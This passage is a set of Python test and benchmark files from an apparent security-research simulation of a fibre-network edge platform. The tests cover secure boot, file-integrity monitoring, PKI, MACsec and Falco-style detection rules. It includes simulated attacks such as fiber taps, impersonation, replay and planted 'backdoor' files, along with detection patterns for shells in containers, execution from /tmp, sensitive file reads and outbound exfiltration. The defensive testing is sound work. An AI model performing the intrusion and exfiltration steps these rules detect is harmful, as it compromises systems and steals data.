                       queue_limit_bytes=1000)
        qos.submit(Request("t", 1000, 0.0), now=0.0)
        qos.submit(Request("t", 900, 0.0), now=0.0)     # fill 0.9: asserted
        qos.admit([], now=0.01)                         # drains: cleared
        events = list(bus.history("qos.backpressure"))
        assert len(events) == 2
        assert all(e.get("direction") == "downstream" for e in events)

    def test_direction_validated(self):
        with pytest.raises(ValueError, match="direction"):
            QosEnforcer(direction="sideways")


# ---------------------------------------------------------------------------
# CLI
# ---------------------------------------------------------------------------


class TestDownstreamCli:
    def test_traffic_downstream_flag(self, capsys):
        from repro.__main__ import main
        assert main(["traffic", "--tenants", "2", "--seconds", "0.2",
                     "--downstream"]) == 0
        out = capsys.readouterr().out
        assert "downstream: broadcast" in out
        assert "Jain fairness index (downstream):" in out

    def test_fleet_downstream_flag(self, capsys):
        from repro.__main__ import main
        assert main(["fleet", "--olts", "2", "--tenants", "4",
                     "--seconds", "0.3", "--downstream"]) == 0
        out = capsys.readouterr().out
        assert "dn Mbps" in out
        assert "fleet downstream throughput:" in out

"""Scenario and robustness tests: pipeline idempotency, forced Clevis,
the telemetry-gateway workload, and cross-component event flows."""

import pytest

from repro.platform import build_genio_deployment, telemetry_gateway_image
from repro.security.appsec import CatsFuzzer, SastEngine
from repro.security.pipeline import SecurityPipeline


class TestTelemetryGatewayWorkload:
    def test_overflow_and_auth_defects_found_by_dast(self):
        report = CatsFuzzer().fuzz_image(telemetry_gateway_image())
        kinds = {f.kind for f in report.findings}
        assert "auth-bypass" in kinds
        overflow = [f for f in report.findings
                    if f.payload_family == "oversized"]
        assert overflow and overflow[0].kind == "server-error"

    def test_pickle_found_by_sast(self):
        report = SastEngine().scan_image(telemetry_gateway_image())
        assert "B301" in report.rule_ids()

    def test_gateway_is_not_malware(self):
        from repro.security.malware import YaraScanner
        assert YaraScanner().scan_image(telemetry_gateway_image()).clean


class TestPipelineScenarios:
    def test_pipeline_is_idempotent(self):
        deployment = build_genio_deployment(n_olts=1, onus_per_olt=1)
        first = SecurityPipeline(deployment).apply()
        second = SecurityPipeline(deployment).apply()
        # Second pass has nothing left to harden or patch...
        for hostname, summary in second.hardening.items():
            assert summary.applied_rules == []
        assert all(count == 0 for count in second.patches_applied.values())
        # ...and the platform still works end to end.
        for host in deployment.all_hosts():
            host.boot()
            assert second.boot.attest_host(host).trusted

    def test_pipeline_with_forced_clevis(self):
        deployment = build_genio_deployment(n_olts=1, onus_per_olt=1)
        posture = SecurityPipeline(deployment,
                                   force_clevis_install=True).apply()
        olt_result = posture.storage[deployment.olts[0].name]
        assert olt_result.unlock_mode == "auto"
        assert olt_result.conflict_risk     # the Lesson 3 trade recorded

    def test_traffic_after_full_pipeline(self):
        deployment = build_genio_deployment(n_olts=1, onus_per_olt=2)
        SecurityPipeline(deployment).apply()
        pon = deployment.olts[0].pon
        serial = sorted(deployment.onus)[0]
        pon.send_downstream(serial, b"post-pipeline data")
        assert pon.delivered_to(serial)[-1].payload == b"post-pipeline data"

    def test_falco_sees_cross_component_events(self):
        deployment = build_genio_deployment(n_olts=1, onus_per_olt=1)
        posture = SecurityPipeline(deployment).apply()
        engine = posture.falco
        engine.reset_counters()
        # A host-level event and a control-plane event share the bus.
        deployment.olts[0].host.login("root", success=False)
        try:
            deployment.cloud_cluster.api.request(None, "create", "pods",
                                                 "tenant-a", "x", obj=None)
        except Exception:
            pass
        fired = engine.alerts_by_rule()
        assert fired.get("failed_login") == 1
        # anonymous write attempt is audited and alerted even though denied:
        assert fired.get("anonymous_control_plane_write") == 1


class TestEventBusRobustness:
    def test_subscriber_added_during_publish_not_invoked_mid_flight(self):
        from repro.common.events import EventBus
        bus = EventBus()
        seen = []

        def first(event):
            seen.append("first")
            bus.subscribe("t", lambda e: seen.append("late"))

        bus.subscribe("t", first)
        bus.emit("t", "s", 0.0)
        # The late subscriber sees only subsequent events.
        assert seen == ["first"]
        bus.emit("t", "s", 1.0)
        assert "late" in seen

    def test_unsubscribe_during_publish_is_safe(self):
        from repro.common.events import EventBus
        bus = EventBus()
        seen = []
        unsub_holder = {}

        def flaky(event):
            seen.append("flaky")
            unsub_holder["u"]()

        unsub_holder["u"] = bus.subscribe("t", flaky)
        bus.subscribe("t", lambda e: seen.append("stable"))
        bus.emit("t", "s", 0.0)
        bus.emit("t", "s", 1.0)
        assert seen.count("flaky") == 1
        assert seen.count("stable") == 2

"""Tests for declarative Falco rule compilation."""

import pytest

from repro.common.errors import ConfigurationError
from repro.common.events import Event
from repro.platform.workloads import ml_inference_image
from repro.security.monitor import FalcoEngine, Priority
from repro.security.monitor.rulespec import (
    compile_condition, compile_rule, compile_ruleset,
)
from repro.virt.container import ContainerSpec
from repro.virt.runtime import ContainerRuntime


def event(**payload):
    return Event(topic="runtime.syscall", source="n", timestamp=0.0,
                 payload=payload)


class TestConditionCompiler:
    def test_leaf_operators(self):
        assert compile_condition({"field": "syscall",
                                  "equals": "execve"})(event(syscall="execve"))
        assert compile_condition({"field": "path", "startswith": "/tmp/"})(
            event(path="/tmp/x"))
        assert compile_condition({"field": "path", "endswith": ".sh"})(
            event(path="/a/b.sh"))
        assert compile_condition({"field": "dst", "contains": "evil"})(
            event(dst="pool.evil.example"))
        assert compile_condition({"field": "syscall",
                                  "in": ["a", "b"]})(event(syscall="b"))
        assert compile_condition({"field": "count", "gt": 3})(event(count=5))
        assert compile_condition({"field": "count", "lt": 3})(event(count=1))
        assert compile_condition({"field": "path", "exists": True})(
            event(path="/x"))
        assert compile_condition({"field": "path", "exists": False})(event())

    def test_missing_field_is_false(self):
        assert not compile_condition({"field": "path",
                                      "startswith": "/"})(event())

    def test_boolean_combinators(self):
        condition = compile_condition({"all": [
            {"field": "syscall", "equals": "execve"},
            {"not": {"field": "path", "startswith": "/app/"}},
        ]})
        assert condition(event(syscall="execve", path="/tmp/x"))
        assert not condition(event(syscall="execve", path="/app/main"))
        any_condition = compile_condition({"any": [
            {"field": "a", "equals": 1}, {"field": "b", "equals": 2}]})
        assert any_condition(event(b=2))
        assert not any_condition(event(a=9))

    def test_invalid_specs_rejected(self):
        with pytest.raises(ConfigurationError):
            compile_condition({"field": "x"})               # no operator
        with pytest.raises(ConfigurationError):
            compile_condition({"field": "x", "equals": 1, "in": [1]})
        with pytest.raises(ConfigurationError):
            compile_condition({"equals": 1})                # no field


class TestRuleCompiler:
    SPEC = {
        "rule": "tmp_exec",
        "desc": "execution from /tmp",
        "priority": "ERROR",
        "topics": ["runtime.syscall"],
        "condition": {"all": [
            {"field": "syscall", "in": ["execve", "execveat"]},
            {"field": "path", "startswith": "/tmp/"}]},
        "exceptions": [{"field": "tenant", "equals": "ops-debug"}],
    }

    def test_compiled_rule_fires_in_engine(self):
        engine = FalcoEngine(rules=compile_ruleset([self.SPEC]))
        runtime = ContainerRuntime("n")
        engine.attach(runtime.bus)
        container = runtime.run(ContainerSpec(image=ml_inference_image(),
                                              tenant="tenant-a"))
        runtime.syscall(container.id, "execve", path="/tmp/dropper")
        runtime.syscall(container.id, "execve", path="/app/main")
        assert engine.alerts_by_rule() == {"tmp_exec": 1}
        assert engine.alerts[0].priority is Priority.ERROR

    def test_declarative_exception_suppresses(self):
        engine = FalcoEngine(rules=compile_ruleset([self.SPEC]))
        runtime = ContainerRuntime("n")
        engine.attach(runtime.bus)
        debug = runtime.run(ContainerSpec(image=ml_inference_image(),
                                          tenant="ops-debug"))
        runtime.syscall(debug.id, "execve", path="/tmp/profiler")
        assert engine.alerts == []

    def test_missing_keys_rejected(self):
        with pytest.raises(ConfigurationError):
            compile_rule({"rule": "x", "desc": "d", "topics": []})

    def test_bad_priority_rejected(self):
        bad = dict(self.SPEC, priority="PANIC")
        with pytest.raises(ConfigurationError):
            compile_rule(bad)

    def test_duplicate_names_rejected(self):
        with pytest.raises(ConfigurationError):
            compile_ruleset([self.SPEC, dict(self.SPEC)])

    def test_custom_rules_extend_defaults(self):
        from repro.security.monitor.falco import default_rules
        engine = FalcoEngine(rules=default_rules()
                             + compile_ruleset([self.SPEC]))
        runtime = ContainerRuntime("n")
        engine.attach(runtime.bus)
        container = runtime.run(ContainerSpec(image=ml_inference_image(),
                                              tenant="tenant-a"))
        runtime.syscall(container.id, "execve", path="/tmp/x")
        runtime.syscall(container.id, "execve", path="/bin/sh")
        fired = engine.alerts_by_rule()
        assert fired["tmp_exec"] == 1 and fired["shell_in_container"] == 1

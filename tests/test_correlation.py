"""Tests for alert correlation and triage."""

import pytest

from repro.security.monitor.correlate import (
    Incident, RULE_STAGES, correlate, triage,
)
from repro.security.monitor.falco import Alert, Priority


def alert(rule, t, tenant="tenant-a", priority=Priority.WARNING):
    return Alert(rule=rule, priority=priority, timestamp=t,
                 source="node", summary=f"runtime.syscall: tenant={tenant}")


class TestCorrelation:
    def test_same_tenant_within_window_groups(self):
        alerts = [alert("shell_in_container", 0.0),
                  alert("sensitive_file_read", 60.0,
                        priority=Priority.CRITICAL),
                  alert("unexpected_outbound", 120.0,
                        priority=Priority.ERROR)]
        incidents = correlate(alerts, window_s=300.0)
        assert len(incidents) == 1
        incident = incidents[0]
        assert incident.stages == ["execution", "escalation", "exfiltration"]
        assert incident.is_campaign
        assert incident.max_priority is Priority.CRITICAL

    def test_window_splits_incidents(self):
        alerts = [alert("shell_in_container", 0.0),
                  alert("shell_in_container", 10_000.0)]
        incidents = correlate(alerts, window_s=300.0)
        assert len(incidents) == 2

    def test_different_tenants_never_merge(self):
        alerts = [alert("shell_in_container", 0.0, tenant="tenant-a"),
                  alert("shell_in_container", 1.0, tenant="tenant-b")]
        assert len(correlate(alerts)) == 2

    def test_ordering_by_score(self):
        alerts = [alert("failed_login", 0.0, tenant="noisy",
                        priority=Priority.NOTICE),
                  alert("shell_in_container", 0.0, tenant="bad"),
                  alert("unexpected_outbound", 5.0, tenant="bad",
                        priority=Priority.ERROR)]
        incidents = correlate(alerts)
        assert incidents[0].key == "bad"

    def test_triage_buckets(self):
        alerts = [
            alert("failed_login", 0.0, tenant="fat-fingers",
                  priority=Priority.NOTICE),
            alert("sensitive_file_read", 0.0, tenant="smash-and-grab",
                  priority=Priority.CRITICAL),
            alert("shell_in_container", 0.0, tenant="campaign"),
            alert("unexpected_outbound", 9.0, tenant="campaign",
                  priority=Priority.ERROR),
        ]
        buckets = triage(correlate(alerts))
        respond_keys = {i.key for i in buckets["respond"]}
        review_keys = {i.key for i in buckets["review"]}
        assert respond_keys == {"smash-and-grab", "campaign"}
        assert review_keys == {"fat-fingers"}

    def test_unknown_rule_is_anomaly_stage(self):
        incidents = correlate([alert("brand_new_rule", 0.0)])
        assert incidents[0].stages == ["anomaly"]

    def test_invalid_window(self):
        with pytest.raises(ValueError):
            correlate([], window_s=0)

    def test_every_default_rule_has_a_stage(self):
        from repro.security.monitor.falco import default_rules
        for rule in default_rules():
            assert rule.name in RULE_STAGES, rule.name

    def test_summary_is_readable(self):
        incidents = correlate([alert("shell_in_container", 0.0),
                               alert("unexpected_outbound", 5.0,
                                     priority=Priority.ERROR)])
        text = incidents[0].summary()
        assert "execution->exfiltration" in text and "tenant-a" in text

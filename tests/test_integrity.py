"""Unit tests for M5/M6/M7: secure boot, secure storage, FIM."""

import pytest

from repro.common.errors import AuthorizationError, IntegrityError
from repro.osmodel.boot import BootComponent, BootStage
from repro.osmodel.presets import cloud_host, stock_onl_olt_host
from repro.security.integrity import (
    FileIntegrityMonitor, SecureBootProvisioner, provision_secure_storage,
)
from repro.security.integrity.securestorage import boot_and_unlock, clevis_repository


class TestSecureBoot:
    @pytest.fixture
    def provisioned(self):
        host = stock_onl_olt_host()
        provisioner = SecureBootProvisioner()
        provisioner.provision(host)
        provisioner.record_golden_state(host)
        return host, provisioner

    def test_good_boot_attests_trusted(self, provisioned):
        host, provisioner = provisioned
        host.boot()
        assert provisioner.attest_host(host).trusted

    def test_tampered_kernel_blocked_by_secure_boot(self, provisioned):
        host, provisioner = provisioned
        good_signature = host.boot_chain.components[BootStage.KERNEL].signature
        host.boot_chain.install(BootComponent(
            BootStage.KERNEL, b"vmlinuz-bootkit", signature=good_signature))
        outcome = host.boot()
        assert not outcome.booted
        assert "kernel" in outcome.failure

    def test_tampered_kernel_detected_by_measured_boot_alone(self, provisioned):
        host, provisioner = provisioned
        host.firmware.secure_boot = False  # verification off...
        host.boot_chain.install(BootComponent(BootStage.KERNEL, b"vmlinuz-bootkit"))
        assert host.boot().booted
        attestation = provisioner.attest_host(host)   # ...but evidence remains
        assert not attestation.trusted
        assert attestation.mismatched_pcrs

    def test_signed_kernel_update_boots_but_changes_measurements(self, provisioned):
        host, provisioner = provisioned
        host.boot_chain.install(
            provisioner.sign_kernel_update(b"vmlinuz-4.19.0-onl-p2"))
        assert host.boot().booted                      # signature valid
        assert not provisioner.attest_host(host).trusted  # needs re-measurement
        provisioner.record_golden_state(host)
        assert provisioner.attest_host(host).trusted

    def test_attest_without_golden_state(self):
        host = cloud_host()
        assert not SecureBootProvisioner().attest_host(host).trusted

    def test_record_golden_requires_successful_boot(self):
        host = stock_onl_olt_host()   # no chain installed
        with pytest.raises(ValueError):
            SecureBootProvisioner().record_golden_state(host)


class TestSecureStorage:
    def test_legacy_onl_falls_back_to_manual(self):
        host = stock_onl_olt_host()
        result = provision_secure_storage(host)
        assert result.encrypted and not result.tpm_bound
        assert result.unlock_mode == "manual-passphrase"
        assert any("Lesson 3" in note for note in result.notes)

    def test_forced_install_enables_auto_unlock_with_risk(self):
        host = stock_onl_olt_host()
        host.tpm.extend(8, b"kernel-good")
        result = provision_secure_storage(host, force_install=True)
        assert result.tpm_bound and result.unlock_mode == "auto"
        assert result.conflict_risk
        assert boot_and_unlock(host, "data") == "auto"

    def test_modern_host_gets_auto_unlock_cleanly(self):
        host = cloud_host()
        host.tpm.extend(8, b"kernel-good")
        result = provision_secure_storage(host)
        assert result.tpm_bound and not result.conflict_risk

    def test_tampered_boot_blocks_auto_unlock(self):
        host = cloud_host()
        host.tpm.extend(8, b"kernel-good")
        provision_secure_storage(host)
        host.tpm.reset()
        host.tpm.extend(8, b"kernel-evil")
        with pytest.raises(AuthorizationError):
            boot_and_unlock(host, "data")
        # Operator recovery path still works:
        assert boot_and_unlock(host, "data",
                               passphrase="genio-recovery-passphrase") \
            == "manual-passphrase"

    def test_unsigned_backports_blocked_by_signature_policy(self):
        host = cloud_host()
        host.require_signed_apt()
        host.packages.remove("clevis")
        host.packages.remove("tpm2-tools")
        result = provision_secure_storage(host)
        assert not result.tpm_bound
        assert any("unsigned" in note for note in result.notes)

    def test_data_at_rest_is_ciphertext(self):
        host = cloud_host()
        provision_secure_storage(host)
        volume = host.volumes["data"]
        boot_and_unlock(host, "data", passphrase="genio-recovery-passphrase")
        volume.write("tenant.db", b"subscriber records")
        assert volume.raw_ciphertext("tenant.db") != b"subscriber records"


class TestFim:
    @pytest.fixture
    def monitored(self):
        host = stock_onl_olt_host()
        fim = FileIntegrityMonitor(host)
        count = fim.baseline()
        assert count > 0
        return host, fim

    def test_clean_check(self, monitored):
        _, fim = monitored
        report = fim.check()
        assert report.clean and not report.findings

    def test_binary_modification_alerts(self, monitored):
        host, fim = monitored
        host.fs.write("/usr/bin/sudo", b"BACKDOORED", actor="attacker")
        report = fim.check()
        assert not report.clean
        assert [f.path for f in report.alerts] == ["/usr/bin/sudo"]
        assert report.alerts[0].change == "modified"

    def test_added_and_deleted_files(self, monitored):
        host, fim = monitored
        host.fs.write("/usr/bin/implant", b"EVIL")
        host.fs.delete("/usr/sbin/sshd")
        changes = {(f.path, f.change) for f in fim.check().alerts}
        assert ("/usr/bin/implant", "added") in changes
        assert ("/usr/sbin/sshd", "deleted") in changes

    def test_mutable_paths_are_noise_not_alerts(self, monitored):
        host, fim = monitored
        host.fs.write("/var/log/messages", b"normal log growth")
        report = fim.check()
        assert report.clean          # no alert...
        assert report.noise          # ...but churn visible separately

    def test_without_classification_logs_become_false_positives(self):
        host = stock_onl_olt_host()
        fim = FileIntegrityMonitor(host, classify_mutable=False)
        fim.baseline()
        host.fs.write("/var/log/messages", b"normal log growth")
        report = fim.check()
        assert not report.clean      # Lesson 3's misleading alert

    def test_tampered_database_detected(self, monitored):
        host, fim = monitored
        fim.tamper_with_database()
        with pytest.raises(IntegrityError):
            fim.check()

    def test_check_without_baseline(self):
        fim = FileIntegrityMonitor(stock_onl_olt_host())
        with pytest.raises(IntegrityError):
            fim.check()

"""Unit tests for M3/M4: PKI, handshake, secured channels, DNSSEC."""

import pytest

from repro.common import crypto
from repro.common.errors import AuthenticationError, IntegrityError
from repro.pon.attacks import (
    DownstreamHijackAttack, FiberTapAttack, OnuImpersonationAttack, ReplayAttack,
)
from repro.pon.frames import Frame
from repro.pon.network import PonNetwork
from repro.pon.onu import Onu
from repro.security.comms import (
    CertificateAuthority, SecureChannelManager, SignedZone, mutual_handshake,
)
from repro.security.comms.dnssec import validate_record
from repro.security.comms.handshake import Endpoint, handshake_with_impostor


@pytest.fixture
def ca():
    return CertificateAuthority()


@pytest.fixture
def endpoints(ca):
    def make(name, seed):
        keypair, cert = ca.enroll_device(name, seed=seed)
        return Endpoint(name=name, keypair=keypair, certificate=cert)
    return make("olt-1", 101), make("cloud-ctl", 102)


class TestPki:
    def test_issue_and_validate(self, ca):
        keypair, cert = ca.enroll_device("ONU-A", now=100.0)
        ca.validate(cert, now=200.0)

    def test_expired_certificate_rejected(self, ca):
        _, cert = ca.enroll_device("ONU-A", now=0.0)
        with pytest.raises(AuthenticationError):
            ca.validate(cert, now=cert.not_after + 1)

    def test_revoked_certificate_rejected(self, ca):
        _, cert = ca.enroll_device("ONU-A")
        ca.revoke(cert.serial, "device stolen")
        with pytest.raises(AuthenticationError):
            ca.validate(cert)

    def test_foreign_issuer_rejected(self, ca):
        other = CertificateAuthority("Rogue-CA",
                                     keypair=crypto.RsaKeyPair.generate(512, seed=9))
        _, cert = other.enroll_device("ONU-A")
        with pytest.raises(AuthenticationError):
            ca.validate(cert)

    def test_forged_signature_rejected(self, ca):
        from repro.security.comms.pki import Certificate
        _, cert = ca.enroll_device("ONU-A")
        forged = Certificate(
            subject="ONU-EVIL", public_key=cert.public_key, issuer=cert.issuer,
            serial=cert.serial, not_before=cert.not_before,
            not_after=cert.not_after, signature=cert.signature)
        with pytest.raises(AuthenticationError):
            ca.validate(forged)

    def test_onu_verifier_checks_possession(self, ca):
        keypair, cert = ca.enroll_device("ONU-A")
        verify = ca.make_onu_verifier()
        challenge = b"nonce-123"
        assert verify(cert, challenge, keypair.sign(challenge)) == "ONU-A"
        thief = crypto.RsaKeyPair.generate(512, seed=77)
        with pytest.raises(AuthenticationError):
            verify(cert, challenge, thief.sign(challenge))

    def test_verifier_rejects_non_certificate(self, ca):
        with pytest.raises(AuthenticationError):
            ca.make_onu_verifier()("not a cert", b"c", b"s")


class TestHandshake:
    def test_mutual_handshake_agrees_secret(self, ca, endpoints):
        client, server = endpoints
        result = mutual_handshake(client, server, ca)
        assert len(result.shared_secret) == 32
        assert result.cost_units >= 6  # 2 sigs + 4 verifications minimum

    def test_impostor_without_victim_cert_fails(self, ca, endpoints):
        client, server = endpoints
        impostor_kp, impostor_cert = ca.enroll_device("attacker-box", seed=666)
        impostor = Endpoint("attacker-box", impostor_kp, impostor_cert)
        ok, reason = handshake_with_impostor("olt-1", impostor, server, ca)
        assert not ok
        assert "olt-1" not in reason or "attacker-box" in reason

    def test_revoked_party_cannot_handshake(self, ca, endpoints):
        client, server = endpoints
        ca.revoke(client.certificate.serial)
        with pytest.raises(AuthenticationError):
            mutual_handshake(client, server, ca)


class TestSecuredPon:
    """Integration: M3+M4 defeat the T1 attacks on a live PON."""

    @pytest.fixture
    def secured(self):
        manager = SecureChannelManager()
        network = PonNetwork.build("olt-sec")
        manager.secure_pon(network)
        onu = Onu("ONU-A", premises="home")
        manager.enroll_onu(onu, seed=11)
        manager.activate_onu_securely(network, onu)
        return manager, network, onu

    def test_secure_activation_works(self, secured):
        _, network, onu = secured
        assert onu.activated
        network.send_downstream("ONU-A", b"hello secure world")
        assert network.delivered_to("ONU-A")[0].payload == b"hello secure world"

    def test_fiber_tap_defeated(self, secured):
        _, network, _ = secured
        attack = FiberTapAttack(network)
        network.send_downstream("ONU-A", b"secret meter data")
        result = attack.run()
        assert not result.succeeded

    def test_fiber_tap_succeeds_without_m3(self):
        network = PonNetwork.build()
        network.attach_onu(Onu("ONU-A"))
        attack = FiberTapAttack(network)
        network.send_downstream("ONU-A", b"secret meter data")
        assert attack.run().succeeded

    def test_impersonation_defeated(self, secured):
        _, network, _ = secured
        result = OnuImpersonationAttack(network, "ONU-A").run()
        assert not result.succeeded

    def test_impersonation_succeeds_without_m4(self):
        network = PonNetwork.build()
        network.attach_onu(Onu("ONU-A"))
        assert OnuImpersonationAttack(network, "ONU-A").run().succeeded

    def test_downstream_hijack_defeated(self, secured):
        _, network, _ = secured
        result = DownstreamHijackAttack(network, "ONU-A").run()
        assert not result.succeeded
        assert network.onus["ONU-A"].rejected >= 1

    def test_downstream_hijack_succeeds_without_m3(self):
        network = PonNetwork.build()
        network.attach_onu(Onu("ONU-A"))
        assert DownstreamHijackAttack(network, "ONU-A").run().succeeded

    def test_unenrolled_onu_cannot_activate(self, secured):
        manager, network, _ = secured
        stranger = Onu("ONU-B")
        with pytest.raises(ValueError):
            manager.activate_onu_securely(network, stranger)


class TestSecuredEthernet:
    def test_secure_link_establishes_working_macsec(self):
        from repro.pon.macsec import MacsecChannel, derive_sak
        manager = SecureChannelManager()
        manager.enroll("olt-1", seed=1)
        manager.enroll("cloud-ctl", seed=2)
        secured = manager.secure_link("uplink-1", "olt-1", "cloud-ctl")
        assert manager.handshake_costs > 0

        # The peer derives the same SAK from the handshake secret and can
        # validate what the sender protects.
        sender = secured.macsec.a_to_b
        peer = MacsecChannel(derive_sak(secured.handshake.shared_secret,
                                        "uplink-1"))
        frame = sender.protect(Frame("olt-1", "cloud-ctl",
                                     payload=b"telemetry"))
        assert peer.validate(frame).payload == b"telemetry"

    def test_link_names_produce_distinct_saks(self):
        manager = SecureChannelManager()
        manager.enroll("olt-1", seed=1)
        manager.enroll("olt-2", seed=2)
        manager.enroll("cloud-ctl", seed=3)
        first = manager.secure_link("uplink-1", "olt-1", "cloud-ctl")
        second = manager.secure_link("interolt-1", "olt-1", "olt-2")
        frame = first.macsec.a_to_b.protect(Frame("olt-1", "cloud-ctl",
                                                  payload=b"x"))
        from repro.common.errors import IntegrityError as IE
        with pytest.raises(IE):
            second.macsec.a_to_b.validate(frame)

    def test_replay_attack_via_attack_module(self):
        from repro.common.clock import SimClock
        from repro.pon.fiber import EthernetLink
        from repro.pon.macsec import MacsecChannel, derive_sak

        manager = SecureChannelManager()
        manager.enroll("olt-1", seed=1)
        manager.enroll("cloud-ctl", seed=2)
        secured = manager.secure_link("uplink-1", "olt-1", "cloud-ctl")
        link = EthernetLink("uplink-1", SimClock())
        attack = ReplayAttack(link)

        sender = secured.macsec.a_to_b
        receiver = secured.macsec.b_to_a  # unused; construct true receiver below
        sak = derive_sak(secured.handshake.shared_secret, "uplink-1")
        true_receiver = MacsecChannel(sak)

        protected = sender.protect(Frame("olt-1", "cloud-ctl", payload=b"cmd"))
        link.transmit(protected, protected.size)
        true_receiver.validate(protected)          # legitimate delivery
        result = attack.run(receiver=true_receiver)
        assert not result.succeeded                 # replay rejected

    def test_replay_succeeds_on_plaintext_link(self):
        from repro.common.clock import SimClock
        from repro.pon.fiber import EthernetLink
        link = EthernetLink("plain", SimClock())
        attack = ReplayAttack(link)
        frame = Frame("a", "b", payload=b"unprotected command")
        link.transmit(frame, frame.size)
        assert attack.run(receiver=None).succeeded


class TestDnssec:
    def test_signed_resolution(self):
        zone = SignedZone("genio.example")
        zone.add("onboarding.genio.example", "10.0.0.10")
        record = zone.lookup("onboarding.genio.example")
        assert validate_record(record, zone.public_key) == "10.0.0.10"

    def test_spoofed_record_detected(self):
        zone = SignedZone("genio.example")
        zone.add("onboarding.genio.example", "10.0.0.10")
        zone.spoof("onboarding.genio.example", "203.0.113.66")
        with pytest.raises(IntegrityError):
            validate_record(zone.lookup("onboarding.genio.example"),
                            zone.public_key)

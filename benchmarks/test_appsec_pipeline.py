"""E11 — the application-security pipeline on registry images (M13-M15,
Lesson 7).

Regenerates the per-image findings table (SCA actionable vs noise, SAST
rules fired, DAST fuzz findings or unfuzzability) and the port audit of a
stock vs hardened host.
"""

from repro.osmodel.presets import stock_onl_olt_host
from repro.platform.workloads import (
    iot_analytics_image, legacy_java_billing_image, malicious_miner_image,
    ml_inference_image, vulnerable_webapp_image,
)
from repro.security.appsec import CatsFuzzer, NmapScanner, SastEngine, ScaScanner
from repro.security.hardening import harden_host
from repro.security.vulnmgmt import build_cve_corpus

IMAGES = [
    ml_inference_image(),
    iot_analytics_image(),
    vulnerable_webapp_image(),
    legacy_java_billing_image(),
    malicious_miner_image(),
]


def test_appsec_pipeline(benchmark, report):
    sca = ScaScanner(build_cve_corpus())
    sast = SastEngine()
    fuzzer = CatsFuzzer()

    def run_pipeline():
        return [(image.reference,
                 sca.scan(image),
                 sast.scan_image(image),
                 fuzzer.fuzz_image(image)) for image in IMAGES]

    results = benchmark(run_pipeline)

    lines = ["E11 — application security pipeline over the registry (Lesson 7)",
             "",
             f"{'image':<28} {'SCA act.':>8} {'SCA noise':>9} "
             f"{'SAST sec':>8} {'DAST':>12}"]
    for reference, sca_report, sast_report, fuzz_report in results:
        dast = (f"{len(fuzz_report.findings)} defects" if fuzz_report.fuzzable
                else "not fuzzable")
        lines.append(f"{reference:<28} {len(sca_report.actionable):>8} "
                     f"{len(sca_report.noise):>9} "
                     f"{len(sast_report.security_findings):>8} {dast:>12}")

    webapp = next(r for r in results if r[0].startswith("webshop"))
    lines.append("")
    lines.append("seeded-defect detection on webshop/storefront:")
    lines.append(f"  SAST rules fired: {', '.join(webapp[2].rule_ids())}")
    kinds = sorted({f.kind for f in webapp[3].findings})
    lines.append(f"  DAST finding kinds: {', '.join(kinds)} "
                 f"({webapp[3].requests_sent} fuzz requests)")

    iot = next(r for r in results if r[0].startswith("meterco"))
    lines.append("")
    lines.append(f"Lesson 7 noise rate on meterco/iot-analytics: "
                 f"{iot[1].noise_rate:.0%} of SCA findings are on "
                 "dependencies the app never imports")

    stock = stock_onl_olt_host()
    stock_ports = NmapScanner().scan(stock)
    hardened = stock_onl_olt_host()
    harden_host(hardened)
    hardened_ports = NmapScanner(allowed_ports=(22, 443, 161, 6640)).scan(hardened)
    lines.append("")
    lines.append(f"nmap audit: stock host exposes "
                 f"{len(stock_ports.unexpected_open)} unexpected ports "
                 f"({', '.join(str(f.port) for f in stock_ports.unexpected_open)}); "
                 f"hardened host exposes {len(hardened_ports.unexpected_open)}")
    report("E11_appsec_pipeline", "\n".join(lines))

    clean = next(r for r in results if r[0].startswith("acme"))
    assert not clean[1].findings and not clean[2].security_findings
    assert not clean[3].findings
    assert webapp[1].findings and webapp[2].security_findings
    assert {"server-error", "auth-bypass", "reflected-content"} <= \
        {f.kind for f in webapp[3].findings}
    assert iot[1].noise_rate > 0.5
    miner = next(r for r in results if r[0].startswith("freebie"))
    assert not miner[3].fuzzable            # Lesson 7: no REST, no fuzzing
    assert len(stock_ports.unexpected_open) >= 3
    assert not hardened_ports.unexpected_open

"""E17 — telemetry overhead on the event-bus hot path, measured A/B.

The telemetry layer instruments ``EventBus.publish`` (counters per
topic, a delivery-depth histogram, a history gauge). Observability is
only viable at the far edge if that instrumentation is nearly free:
this bench publishes the same burst through an instrumented bus and
through one built with telemetry disabled, and asserts the slowdown
stays under 2x.
"""

import random
import time

from repro.common.events import EventBus
from repro.common.telemetry import (
    default_registry, reset_default_registry, set_telemetry_enabled,
)

_TOPICS = ["pon.frame", "host.syscall", "host.file.write",
           "runtime.syscall", "sdn.flow"]
_BURST = 500


def _make_bus(instrumented: bool) -> EventBus:
    # Buses consult the active registry once, at construction: building
    # one while telemetry is disabled yields a permanently bare bus.
    set_telemetry_enabled(instrumented)
    try:
        bus = EventBus(history_limit=1000)
    finally:
        set_telemetry_enabled(True)
    # a realistic subscriber load: one exact, one prefix, one wildcard
    bus.subscribe("host.syscall", lambda e: None)
    bus.subscribe("host", lambda e: None)
    bus.subscribe("", lambda e: None)
    return bus


def _burst(bus: EventBus, rng: random.Random) -> None:
    for i in range(_BURST):
        bus.emit(rng.choice(_TOPICS), "bench", float(i), seq=i)


def test_publish_burst_uninstrumented(benchmark):
    reset_default_registry()
    bus = _make_bus(instrumented=False)
    benchmark(_burst, bus, random.Random(7))


def test_publish_burst_instrumented(benchmark, report):
    reset_default_registry()
    bus = _make_bus(instrumented=True)
    benchmark(_burst, bus, random.Random(7))

    # Independent wall-clock A/B for the report file (benchmark fixtures
    # cannot compare across tests). Min-of-repeats suppresses scheduler
    # noise.
    def timed(instrumented: bool, repeats: int = 7) -> float:
        best = float("inf")
        for _ in range(repeats):
            local = _make_bus(instrumented)
            rng = random.Random(7)
            start = time.perf_counter()
            for _ in range(10):
                _burst(local, rng)
            best = min(best, time.perf_counter() - start)
        return best

    bare = timed(False)
    metered = timed(True)
    factor = metered / bare if bare else float("inf")

    registry = default_registry()
    events = registry.total("bus_events_total")
    lines = ["E17 — telemetry overhead on the event-bus hot path",
             "",
             f"burst: {_BURST * 10} published events, 3 subscribers",
             f"bare bus:         {bare * 1000:8.2f} ms",
             f"instrumented bus: {metered * 1000:8.2f} ms",
             f"overhead factor:  {factor:8.2f}x",
             "",
             f"registry saw {events:.0f} bus_events_total across the "
             f"timed runs ({len(_TOPICS)} topic label values)",
             "",
             "reading: per-publish cost is two cached counter increments, "
             "one histogram observe and one gauge set — the factor must "
             "stay under 2x for always-on metrics to be defensible at the "
             "far edge (Lesson 8's 'acceptable bounds')."]
